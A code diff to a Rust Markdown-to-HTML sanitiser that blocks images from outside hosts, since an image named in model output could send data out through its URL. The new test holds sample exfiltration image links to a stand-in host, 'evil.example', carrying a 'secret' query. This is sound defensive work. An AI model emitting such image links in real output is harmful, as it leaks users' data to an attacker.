@@ -18,6 +18,18 @@ pub fn markdown_html(markdown: &str) -> String {
     ammonia::Builder::default()
         .url_schemes(["http", "https", "mailto"].into())
         .link_rel(Some("noopener noreferrer nofollow"))
+        // An image the model names could carry data out in its URL as soon as the page shows
+        // it: only images of this server (a path) load; the others keep their alt text.
+        .attribute_filter(|element, attribute, value| {
+            if element == "img"
+                && attribute == "src"
+                && (!value.starts_with('/') || value.starts_with("//"))
+            {
+                None
+            } else {
+                Some(value.into())
+            }
+        })
         .clean(&out)
         .to_string()
 }
@@ -25,6 +37,19 @@ pub fn markdown_html(markdown: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::markdown_html;
+
+    #[test]
+    fn images_load_only_from_this_server() {
+        let html = markdown_html(
+            "![leak](https://evil.example/?q=secret) ![ok](/api/v1/jobs/1/files/a.png) ![p](//evil.example/x)",
+        );
+        assert!(!html.contains("evil.example"), "{html}");
+        assert!(html.contains("alt=\"leak\""), "{html}");
+        assert!(
+            html.contains("src=\"/api/v1/jobs/1/files/a.png\""),
+            "{html}"
+        );
+    }
 
     #[test]
     fn formatting_is_kept() {
@@ -55,6 +80,6 @@ mod tests {
         ] {
             assert!(!html.contains(bad), "{bad} survived: {html}");
         }
-        assert!(html.contains("<img src=\"x\">"), "{html}");
+        assert!(html.contains("<img>"), "{html}");
     }
 }
